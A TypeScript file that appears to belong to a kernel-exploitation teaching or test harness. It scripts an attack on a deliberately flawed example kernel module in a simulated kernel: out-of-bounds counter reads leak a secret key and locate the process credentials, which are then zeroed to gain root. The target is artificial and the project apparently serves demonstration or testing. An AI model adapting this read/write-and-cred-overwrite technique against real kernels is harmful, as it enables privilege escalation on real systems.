// What an ordinary user does with examples/kernel-module/secret.c's mistake, system call by system call: the same steps as
// examples/kernel-module/attack.c. It knows nothing but what the kernel tells it.
import type { KernelMode } from '../loader/kernel-mode.ts';
import type { AttackReport } from './way-report.ts';

const FILE = 'drop_counters';
const GET_COUNTER = 0xd001;
const SET_COUNTER = 0xd002;
const NAME = 'attack';
const PID = 4242;
const UID = 1000;
/** the shell that started it */
const PARENT = 1000;
/** words of a task_struct that are looked through for the name */
const TASK_WORDS = 1024;

/** null: the module opens no such door. The machine may be dead afterwards: not every module has the mistake that this one uses. */
export function attack(mode: KernelMode): AttackReport | null {
  const { exports } = mode.kernel;
  const before = BigInt.asUintN(64, exports.kernelCurrentTask());
  const name = new TextEncoder().encode(NAME);
  const at = exports.allocate(16);
  new Uint8Array(mode.kernel.memory.buffer).set(name, at);
  exports.setTask(PID, PID, UID, UID, PARENT, at, name.length);
  exports.release(at);
  const fd = mode.open(FILE);
  const report = fd < 0 ? null : steal(mode, fd);
  // The process ends; an oops may have ended it already.
  if (mode.state() === 'alive' && BigInt.asUintN(64, exports.kernelCurrentTask()) !== before) exports.kernelExitTask();
  return report;
}

function steal(mode: KernelMode, fd: number): AttackReport {
  let reads = 0;
  let writes = 0;
  let counters = 0n;
  const dead = (): boolean => mode.state() !== 'alive' || mode.kernel.exports.kernelTaskKilled();
  const request = (command: number, number: bigint, value: bigint): bigint => {
    if (dead()) return 0n;
    const bytes = new Uint8Array(16);
    const view = new DataView(bytes.buffer);
    view.setBigInt64(0, BigInt.asIntN(64, number), true);
    view.setBigUint64(8, value, true);
    const { result, bytes: after } = mode.control(fd, command, bytes);
    return result < 0 ? 0n : new DataView(after.buffer, after.byteOffset).getBigUint64(8, true);
  };
  const ask = (number: bigint): bigint => (reads++, request(GET_COUNTER, number, 0n));
  const numberOf = (address: bigint): bigint => BigInt.asIntN(64, address - counters) / 8n;
  const read = (address: bigint): bigint => ask(numberOf(address));
  const userBefore = mode.userId();

  // Behind the four counters: a list that leads to itself, who asked last, and the key.
  counters = BigInt.asUintN(64, ask(4n) - 32n);
  const task = ask(6n);
  const key = ask(7n);
  const words = new BigUint64Array([read(key), read(key + 8n), read(key + 16n)]);
  const secret = new TextDecoder().decode(words).split('\0')[0] ?? '';

  // My task has my name in it, and two words before the name it points to my credentials.
  let cred = 0n;
  for (let i = 0n; i < TASK_WORDS && cred === 0n && !dead(); i++) {
    const text = new TextDecoder().decode(new BigUint64Array([read(task + i * 8n)]));
    if (text.startsWith(`${NAME}\0`)) cred = read(task + i * 8n - 16n);
  }
  // They begin with a counter; then come the user's and the group's numbers.
  for (let i = 0n; cred !== 0n && i < 6n && !dead() && mode.userId() !== 0; i++) {
    const ids = read(cred + i * 8n);
    if (Number(ids & 0xffffffffn) !== UID && Number(ids >> 32n) !== UID) continue;
    writes++;
    request(SET_COUNTER, numberOf(cred + i * 8n), 0n);
  }
  return { userBefore, userAfter: dead() ? userBefore : mode.userId(), secret, reads, writes };
}
